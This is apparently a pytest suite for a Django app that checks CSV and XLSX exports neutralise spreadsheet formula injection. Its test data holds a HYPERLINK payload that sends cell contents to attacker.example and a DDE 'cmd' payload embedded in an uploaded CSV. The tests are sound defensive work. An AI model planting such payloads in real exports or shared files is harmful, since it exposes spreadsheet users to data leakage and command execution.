"""Formula injection: text typed by one person never runs as a formula in another person's
spreadsheet, in any CSV or XLSX export (all written by `core.spreadsheets`)."""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from commonops.commonservices import actions
from commonops.core.models import Agency, User
from commonops.core.spreadsheets import Sheet, csv_cell, neutralise, xlsx_bytes

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_would_run_as_a_formula_is_neutralised(text):
    assert neutralise(text) == "'" + text
    assert csv_cell(text) == "'" + text


def test_numbers_dates_and_plain_text_are_left_alone():
    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(-3) == "-3"
    assert csv_cell(date(2025, 1, 2)) == "2025-01-02"
    assert csv_cell("Fuel") == "Fuel"
    assert csv_cell(None) == ""


def test_xlsx_text_cells_are_text_even_when_they_look_like_formulas():
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("S", [PAYLOAD, "n"], [[PAYLOAD, 1]])])))
    cells = [cell for row in book["S"].iter_rows() for cell in row]
    assert [c.data_type for c in cells] == ["s", "s", "s", "n"]
    assert cells[2].value == PAYLOAD


def _formula_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell.coordinate for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def test_a_service_named_like_a_formula_stays_text_in_statement_and_report(login, viet_nam):
    csm = User.objects.get(username="vn-csm")
    agencies = list(Agency.objects.filter(acronym__in=["UNDP", "WHO"]))
    service = actions.service_create(by=csm, data={
        "country": viet_nam, "name": PAYLOAD, "service_line": "ict",
        "client_agencies": agencies, "provider_agencies": agencies[:1]})
    actions.budget_line_create(by=csm, data={"service": service, "year": 2031,
                                           "line": PAYLOAD[:60], "amount": Decimal("900")})
    actions.key_create(by=csm, data={"service": service, "year": 2031, "method": "equal"})
    actions.allocation_allocate(service=service, year=2031, by=csm)
    client = login(csm)
    undp = Agency.objects.get(acronym="UNDP")
    statement = client.get(reverse("commonservices:statement_xlsx", args=[undp.pk, 2031]))
    report = client.get(reverse("commonservices:annual_report_xlsx", args=[2031]))
    for response in (statement, report):
        assert response.status_code == 200
        assert _formula_cells(response.content) == []


def test_an_imported_budget_line_is_neutralised_in_the_csv_export(login, viet_nam):
    csm = User.objects.get(username="vn-csm")
    service = actions.service_create(by=csm, data={
        "country": viet_nam, "name": "Formula probe service", "service_line": "ict",
        "client_agencies": list(Agency.objects.filter(acronym="UNDP"))})
    client = login(csm)
    quoted = PAYLOAD.replace('"', '""')
    upload = io.BytesIO(("Service,Date,Budget line,Description,Amount,Currency\n"
                         f'Formula probe service,2025-06-10,"{quoted[:60]}",'
                         "=cmd|' /C calc'!A0,2550000,VND\n").encode())
    upload.name = "expenditures.csv"
    client.post(reverse("commonservices:import", args=["expenditures"]), {"upload": upload})
    response = client.post(reverse("commonservices:import", args=["expenditures"]), {
        "commit": "1", "token": client.session["commonservices_import"]["token"]})
    assert response.status_code == 302
    export = client.get(reverse("commonservices:expenditure_list") + "?export=csv")
    cells = [cell for row in csv.reader(io.StringIO(export.content.decode())) for cell in row]
    assert "'" + PAYLOAD[:60] in cells
    assert service.name in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_every_csv_and_xlsx_is_written_in_core_spreadsheets():
    """One place: a new export elsewhere would bypass the neutralisation."""
    package = Path(__file__).resolve().parents[2] / "commonops"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")
    offenders = [str(path.relative_to(package)) for path in package.rglob("*.py")
                 if "tests" not in path.parts and path.name != "spreadsheets.py"
                 and writers.search(path.read_text())]
    assert offenders == []
